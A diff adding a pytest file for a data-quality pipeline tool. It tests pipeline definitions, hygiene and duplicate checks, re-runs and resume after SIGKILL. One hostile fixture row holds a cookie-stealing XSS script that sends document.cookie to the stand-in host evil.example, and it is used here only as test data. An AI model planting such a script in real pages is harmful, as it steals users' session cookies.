@@ -1,0 +1,254 @@
+"""Data-quality pipelines: definitions, shipped checks on real + hostile rows, resume after
+SIGKILL, idempotent re-runs, local engine equality across worker counts, CLI errors."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+import forensics
+from forensics.errors import InputError
+from forensics.pipeline import (Batch, DuplicatesCheck, HygieneCheck, MistranslationCheck,
+                                Pipeline, ReadSamples, Truncate, WriteFindings, load_pipeline,
+                                run_pipeline)
+from forensics.pipeline.core import builtin_pipelines
+
+from conftest import REPO, run_cli
+
+LONG = ("Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 3000)[:150_000]
+HOSTILE = [
+    # id, prompt, reply
+    ("h-script", "What does this page do? <script>alert('x')</script>",
+     "<script>document.location='http://evil.example/'+document.cookie</script> It steals cookies."),
+    ("h-ctrl", "Name the river.", "The river is the Rhine\x00\x07 which flows north\u202e."),
+    ("h-moji", "Where is the café?", "The cafÃ© is next to the stationâ€™s main entrance, Ã  gauche."),
+    ("h-echo", "What is the capital of France?", "What is the capital of   France?"),
+    ("h-trunc", "Describe the process in detail.",
+     "The process starts with collecting samples, then the samples are washed and"),
+    ("h-long", "Summarise the text.", LONG),
+    ("h-dup1", "Who wrote Hamlet?", "William Shakespeare wrote Hamlet around 1600."),
+    ("h-dup2", "Who wrote Hamlet?", "William Shakespeare wrote Hamlet around 1600."),
+    ("h-near1", "Who painted the Mona Lisa and when was it painted?",
+     "Leonardo da Vinci painted the Mona Lisa between 1503 and 1519 in Florence."),
+    ("h-near2", "Who painted the Mona Lisa, and when was it painted?",
+     "Leonardo da Vinci painted the Mona Lisa between 1503 and 1519, in Florence!"),
+]
+
+
+def _rows_by_check(ws, run_id):
+    out: dict[str, set[str]] = {}
+    for check, rid in ws.rows('SELECT "check", row_id FROM v_quality_findings '
+                              "WHERE pipeline_run_id = ?", [run_id]):
+        out.setdefault(check, set()).add(rid)
+    return out
+
+
+def _findings(ws, run_id):
+    return sorted(ws.rows('SELECT "check", sample_id, severity, round(score, 6), detail, group_id '
+                          "FROM quality_findings WHERE pipeline_run_id = ?", [run_id]))
+
+
+@pytest.fixture(scope="session")
+def corpus(xquad_dir):
+    from forensics.synth import build_corpus
+
+    return build_corpus(xquad_dir, seed=3, planted_langs=("de", "es"), other_families=(),
+                        n_clean=80, n_native=40, n_translation=40, n_planted_per_lang=20)
+
+
+@pytest.fixture(scope="session")
+def template_ws(tmp_path_factory, corpus):
+    """A workspace with the labelled XQuAD corpus plus hostile rows, built once."""
+    from forensics.ingest import ingest
+
+    d = tmp_path_factory.mktemp("tmpl")
+    f = d / "rows.jsonl"
+    corpus.write_jsonl(f)
+    with f.open("a", encoding="utf-8") as fh:
+        for rid, p, r in HOSTILE:
+            fh.write(json.dumps({"id": rid, "prompt": p, "reply": r}, ensure_ascii=False) + "\n")
+    ws = forensics.init(d / "ws")
+    ingest(ws, f, "train", progress=False)
+    ws.close()
+    return d / "ws"
+
+
+@pytest.fixture
+def ws_copy(template_ws, tmp_path):
+    dst = tmp_path / "ws"
+    shutil.copytree(template_ws, dst)
+    return dst
+
+
+# ------------------------------------------------------------------ definitions
+def test_definition_round_trip_and_python_api():
+    shipped = builtin_pipelines()
+    assert set(shipped) >= {"mistranslation", "duplicates", "hygiene"}
+    for name in shipped:
+        p = load_pipeline(name)
+        again = Pipeline.from_toml(p.to_toml())
+        assert again.to_dict() == p.to_dict()
+        assert again.definition_hash() == p.definition_hash()
+        assert Pipeline.from_dict(p.to_dict()).to_dict() == p.to_dict()
+        # the repo's pipelines/ dir ships the same files
+        assert (REPO / "pipelines" / f"{name}.toml").read_text() == shipped[name].read_text()
+    code = Pipeline([ReadSamples(), MistranslationCheck(min_conf=0.5, min_chars=12, semantic=True,
+                                                        agree_threshold=0.3), WriteFindings()],
+                    name="mistranslation")
+    assert code.definition_hash() == load_pipeline("mistranslation").definition_hash()
+    # reader and writer are implied when left out
+    implied = Pipeline([DuplicatesCheck(threshold=0.9)])
+    assert [s.type_name for s in implied.steps] == ["read.samples", "check.duplicates",
+                                                   "write.findings"]
+    assert Pipeline([HygieneCheck(z_max=5.0)]).definition_hash() != \
+        Pipeline([HygieneCheck()]).definition_hash()
+
+
+BAD = [
+    ('[pipeline]\nname = "x"\n\n[[steps]]\ntype = "check.nope"\n', 5, "unknown step type"),
+    ('[pipeline]\nname = "x"\n\n[[steps]]\ntype = "check.hygiene"\n\n[[steps]]\n'
+     'type = "check.duplicates"\nthreshold = "high"\n', 9, "must be float"),
+    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.hygiene"\nz_max = 4.0\necho = 1\n', 6,
+     "must be bool"),
+    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.hygiene"\nzmax = 4.0\n', 5,
+     "no parameter 'zmax'"),
+    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.hygiene"\nz_max = = 4\n', 5,
+     "TOML syntax error"),
+    ('[pipeline]\nname = "x"\n[[steps]]\ntype = "check.duplicates"\nfield = "title"\n', 3,
+     "field must be"),
+]
+
+
+@pytest.mark.parametrize("text,line,msg", BAD)
+def test_bad_definition_names_file_and_line(tmp_path, text, line, msg):
+    f = tmp_path / "bad.toml"
+    f.write_text(text)
+    with pytest.raises(InputError) as e:
+        load_pipeline(f)
+    assert f"{f}:{line}:" in e.value.message and msg in e.value.message
+
+
+def test_cli_bad_file_exit_2_and_list_show(ws_path, tmp_path):
+    f = tmp_path / "bad.toml"
+    f.write_text(BAD[1][0])
+    r = run_cli("pipeline", "run", f, "--dataset", "x", workspace=ws_path, check=False)
+    assert r.returncode == 2 and f"{f}:9:" in r.stderr
+    r = run_cli("pipeline", "run", "no-such-pipeline", "--dataset", "x", workspace=ws_path,
+                check=False)
+    assert r.returncode == 4 and "shipped" in r.stderr
+    names = {p["name"] for p in run_cli("pipeline", "list", "--json").json()}
+    assert names >= {"mistranslation", "duplicates", "hygiene"}
+    shown = run_cli("pipeline", "show", "duplicates").stdout
+    assert Pipeline.from_toml(shown.split("\n", 1)[1]).definition_hash() == \
+        load_pipeline("duplicates").definition_hash()
+
+
+# ------------------------------------------------------------------ checks on real rows
+def test_shipped_checks_on_labelled_and_hostile_rows(ws_copy, corpus):
+    combined = Pipeline([ReadSamples(), HygieneCheck(), DuplicatesCheck(), Truncate(max_chars=5000),
+                         MistranslationCheck(), WriteFindings()], name="all")
+    with forensics.open(ws_copy) as ws:
+        res = run_pipeline(ws, combined, "train", workers=1, batch_size=64)
+        by = _rows_by_check(ws, res.pipeline_run_id)
+        n = ws.one("SELECT count(*) FROM samples WHERE dataset = 'train'")[0]
+    assert res.rows == n and res.status == "done"
+    # mistranslation: planted rows found, translation requests / native pairs not flagged
+    planted = {k for k, v in corpus.labels.items() if v.startswith("planted:")}
+    flagged = by.get("mistranslation", set())
+    tp = len(flagged & planted)
+    assert tp / len(planted) >= 0.9, (tp, len(planted))
+    assert tp / max(1, len(flagged)) >= 0.9, flagged - planted
+    hard = {k for k, v in corpus.labels.items() if v == "translation_request"}
+    assert not flagged & hard
+    # hygiene on hostile rows
+    assert "h-moji" in by["hygiene.mojibake"]
+    assert "h-ctrl" in by["hygiene.control_chars"]
+    assert "h-echo" in by["hygiene.echo"]
+    assert "h-trunc" in by["hygiene.truncated"]
+    assert "h-long" in by["hygiene.length_outlier"]
+    assert "h-script" not in set().union(*[v for k, v in by.items() if k != "hygiene.length_outlier"])
+    # duplicates grouped
+    assert {"h-dup1", "h-dup2"} <= by["duplicates.exact"]
+    assert {"h-near1", "h-near2"} <= by["duplicates.near"]
+    with forensics.open(ws_copy, read_only=True) as ws:
+        g = ws.rows("SELECT DISTINCT group_id FROM v_quality_findings WHERE row_id IN "
+                    "('h-near1', 'h-near2') AND \"check\" = 'duplicates.near'")
+    assert len(g) == 1 and g[0][0].startswith("near:")
+    # per-step stats are consistent
+    st = {s.step: s for s in res.steps}
+    assert st["read.samples"].rows_out == n
+    assert st["check.hygiene"].rows_in == n and st["write.findings"].findings == sum(
+        len(v) for v in by.values())
+
+
+def test_hygiene_rows_ingest_would_reject():
+    """Empty replies never reach samples through ingest (it rejects them) but can through a
+    Parquet reader; the step itself must flag them."""
+    b = Batch(0, {"sample_id": [1, 2, 3], "prompt": ["Hi", "Q?", None],
+                  "reply": ["", "   \t", "\ufffd\ufffd broken"]})
+    _, f = HygieneCheck().process(b)
+    got = {(x.check, x.sample_id) for x in f}
+    assert {("hygiene.empty_reply", 1), ("hygiene.empty_reply", 2),
+            ("hygiene.mojibake", 3)} <= got
+
+
+# ------------------------------------------------------------------ runs
+def test_idempotent_rerun_and_workers_equal(ws_copy):
+    p = load_pipeline("hygiene")
+    with forensics.open(ws_copy) as ws:
+        a = run_pipeline(ws, p, "train", workers=1, batch_size=50)
+        before = ws.one("SELECT count(*) FROM quality_findings")[0]
+        again = run_pipeline(ws, p, "train", workers=2, batch_size=50)
+        assert again.reused and again.pipeline_run_id == a.pipeline_run_id
+        assert ws.one("SELECT count(*) FROM quality_findings")[0] == before
+        b = run_pipeline(ws, Pipeline([DuplicatesCheck(), HygieneCheck()]), "train",
+                         workers=2, batch_size=50, fresh=True)
+        c = run_pipeline(ws, Pipeline([DuplicatesCheck(), HygieneCheck()]), "train",
+                         workers=1, batch_size=50, fresh=True)
+        assert b.pipeline_run_id != c.pipeline_run_id
+        assert [x[:1] + x[1:] for x in _findings(ws, b.pipeline_run_id)] == \
+            _findings(ws, c.pipeline_run_id)
+        assert _findings(ws, a.pipeline_run_id) == [
+            x for x in _findings(ws, c.pipeline_run_id) if x[0].startswith("hygiene")]
+
+
+def test_resume_after_sigkill(ws_copy, tmp_path):
+    mark = tmp_path / "marks.txt"
+    env = {**os.environ, "PYTHONPATH": str(REPO), "FORENSICS_TEST_PIPELINE_SLEEP": "0.4",
+           "FORENSICS_TEST_PIPELINE_MARK": str(mark)}
+    cmd = [sys.executable, "-m", "forensics", "--workspace", str(ws_copy), "pipeline", "run",
+           "duplicates", "--dataset", "train", "--batch-size", "20", "--workers", "1", "--json"]
+    proc = subprocess.Popen(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    deadline = time.time() + 60
+    while time.time() < deadline:
+        if mark.exists() and len(mark.read_text().split()) >= 2:
+            break
+        if proc.poll() is not None:
+            pytest.fail(f"run ended before it could be killed: {proc.communicate()}")
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    committed = len(mark.read_text().split())
+    with forensics.open(ws_copy, read_only=True) as ws:
+        run_id, status = ws.one("SELECT pipeline_run_id, status FROM pipeline_runs")
+        assert status == "running"
+        n_batches = ws.one("SELECT count(*) FROM pipeline_batches WHERE pipeline_run_id = ?",
+                           [run_id])[0]
+        assert 1 <= n_batches <= committed + 1
+    r = run_cli("pipeline", "run", "duplicates", "--dataset", "train", "--batch-size", "20",
+                "--json", workspace=ws_copy).json()
+    assert r["resumed"] and r["pipeline_run_id"] == run_id and r["batches_skipped"] >= n_batches
+    with forensics.open(ws_copy) as ws:
+        resumed = _findings(ws, run_id)
+        total = ws.one("SELECT count(*) FROM pipeline_batches WHERE pipeline_run_id = ?", [run_id])[0]
+        assert total == r["batches_total"]
+        clean = run_pipeline(ws, load_pipeline("duplicates"), "train", batch_size=20, fresh=True)
+        assert resumed == _findings(ws, clean.pipeline_run_id) and resumed
